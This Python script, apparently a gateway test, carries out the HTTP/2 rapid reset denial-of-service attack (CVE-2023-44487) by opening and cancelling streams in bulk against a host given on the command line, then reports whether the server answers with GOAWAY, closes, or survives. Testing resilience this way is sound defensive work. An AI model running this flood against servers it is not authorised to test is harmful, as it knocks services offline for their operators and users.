#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487) for the gateway tests: rapid-reset.py HOST PORT STREAMS.
Over one cleartext HTTP/2 connection (prior knowledge) opens STREAMS requests and cancels each at once
(HEADERS then RST_STREAM), as fast as it can. Prints "goaway code=N after=M" when the server sends GOAWAY
(N: its error code; 11 is ENHANCE_YOUR_CALM), "closed after=M" when it just closes, else "survived after=M"."""
import socket
import sys

import h2.config
import h2.connection
import h2.events
import h2.errors

host, port, streams = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
sock = socket.create_connection((host, port), timeout=10)
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
headers = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "reset.example.com")]
sent = 0
result = None
sock.settimeout(0.001)
try:
    while sent < streams and result is None:
        for _ in range(100):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers, end_stream=True)
            conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
            sent += 1
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            result = f"closed after={sent}"
            break
        try:
            data = sock.recv(65536)
            if not data:
                result = f"closed after={sent}"
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    result = f"goaway code={int(event.error_code)} after={sent}"
        except socket.timeout:
            pass
        except h2.exceptions.ProtocolError:
            pass
    if result is None:
        # Give the server a moment to answer what was sent.
        sock.settimeout(3)
        try:
            while result is None:
                data = sock.recv(65536)
                if not data:
                    result = f"closed after={sent}"
                    break
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        result = f"goaway code={int(event.error_code)} after={sent}"
        except (socket.timeout, OSError):
            result = f"survived after={sent}"
except OSError:
    result = f"closed after={sent}"
print(result, flush=True)
